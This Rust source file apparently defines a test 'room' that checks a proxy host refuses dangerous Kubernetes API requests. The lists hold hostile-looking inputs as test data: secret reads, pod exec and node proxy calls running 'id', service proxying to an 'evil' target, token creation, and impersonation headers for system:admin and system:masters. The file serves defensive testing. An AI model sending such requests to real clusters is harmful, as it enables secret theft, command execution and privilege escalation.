//! A GET to an API server can read a secret, open a websocket to a shell, ask
//! a workload anything, or never end.

use serde_json::json;

use crate::lab::{COLUMNS, Lab, get as to, send, with_header};
use crate::page::Room;

pub async fn room() -> Room {
    let rbac = "/apis/rbac.authorization.k8s.io/v1";
    let pod = "/api/v1/namespaces/web/pods/server";
    let get = |path: &str| to("kubernetes", path);
    let post = |path: &str| send("POST", "kubernetes", path, "{}");
    let ideas = vec![
        (
            "Secrets, and config maps with their data",
            vec![
                get("/api/v1/secrets"),
                get("/api/v1/namespaces/default/secrets"),
                get("/api/v1/namespaces/default/secrets/database"),
                get("/api/v1/secrets?limit=1"),
                json!({ "authority": "kubernetes", "path": "/api/v1/secrets", "headers": [["accept", "application/json;as=PartialObjectMetadataList;v=v1;g=meta.k8s.io"]] }),
                get("/api/v1/namespaces/kube-system/configmaps/kube-root-ca.crt"),
                get("/api/v1/namespaces/web/configmaps/aws-auth"),
            ],
        ),
        (
            "Requests to a workload or a node through the API server",
            vec![
                get("/api/v1/pods"),
                get(&format!("{pod}/log")),
                get(&format!("{pod}/exec?command=id&stdout=true")),
                post(&format!("{pod}/exec?command=id&stdout=true")),
                get(&format!("{pod}/attach")),
                get(&format!("{pod}/portforward?ports=80")),
                get(&format!("{pod}/proxy")),
                get(&format!("{pod}/proxy/admin")),
                get(&format!("{pod}/ephemeralcontainers")),
                get("/api/v1/namespaces/web/services/evil:80/proxy/x?q=stolen"),
                get("/api/v1/namespaces/web/services/evil/proxy"),
                get("/api/v1/services"),
                get("/api/v1/nodes"),
                get("/api/v1/nodes/one/proxy/run/web/server/server?cmd=id"),
                get("/api/v1/nodes/one/proxy/logs"),
                get("/api/v1/proxy/namespaces/web/services/evil"),
                get("/apis/metrics.k8s.io/v1beta1/pods"),
            ],
        ),
        (
            "Answers without an end",
            vec![
                get("/api/v1/namespaces?watch=true"),
                get("/api/v1/namespaces?watch=1&limit=1"),
                get("/api/v1/namespaces?watch"),
                get("/api/v1/watch/namespaces"),
                get(&format!("{rbac}/watch/clusterroles")),
                get("/api/v1/namespaces?timeoutSeconds=86400"),
            ],
        ),
        (
            "Query keys that are not on the list",
            vec![
                get("/api/v1/namespaces?fieldSelector=metadata.name%3Dweb"),
                get("/api/v1/namespaces?labelSelector=a"),
                get("/api/v1/namespaces?limit=1&limit=2"),
                get("/api/v1/namespaces?resourceVersion=0"),
                get("/api/v1/namespaces?pretty=true"),
                get("/api/v1/namespaces?dryRun=All"),
                get("/api/v1/namespaces/web/status"),
            ],
        ),
        (
            "Credentials made, identities borrowed, rights asked about",
            vec![
                post("/api/v1/namespaces/web/serviceaccounts/server/token"),
                get("/api/v1/namespaces/web/serviceaccounts/server/token"),
                post("/apis/authentication.k8s.io/v1/tokenreviews"),
                post("/apis/authentication.k8s.io/v1/selfsubjectreviews"),
                post("/apis/authorization.k8s.io/v1/subjectaccessreviews"),
                post("/apis/authorization.k8s.io/v1/selfsubjectaccessreviews"),
                post("/apis/authorization.k8s.io/v1/selfsubjectrulesreviews"),
                post("/apis/certificates.k8s.io/v1/certificatesigningrequests"),
                get("/apis/certificates.k8s.io/v1/certificatesigningrequests"),
                with_header("impersonate-user", "system:admin"),
                with_header("impersonate-group", "system:masters"),
                with_header("impersonate-uid", "0"),
                with_header("impersonate-extra-x", "y"),
            ],
        ),
        (
            "What is no resource, or of no version that is known",
            vec![
                get("/"),
                get("/version"),
                get("/metrics"),
                get("/healthz"),
                get("/logs/"),
                get("/openapi/v2"),
                get("/debug/pprof/"),
                get("/.well-known/openid-configuration"),
                get("/api"),
                get("/apis/apps/v1/deployments"),
                get("/apis/evil.example.com/v1/things"),
                get("/api/v1beta1/namespaces"),
                get("/apis/rbac.authorization.k8s.io/v1beta1/clusterroles"),
            ],
        ),
    ];
    Room {
        title: "In Kubernetes a GET is not a read (R3)",
        about: "The host parses a path as an API server does, into verb, group, resource, namespace and name, and knows a short list of those. There are no subresources on it, no secrets, pods, services or nodes, and nothing that watches.",
        columns: COLUMNS,
        groups: Lab::everything().await.refuses(ideas).await,
    }
}
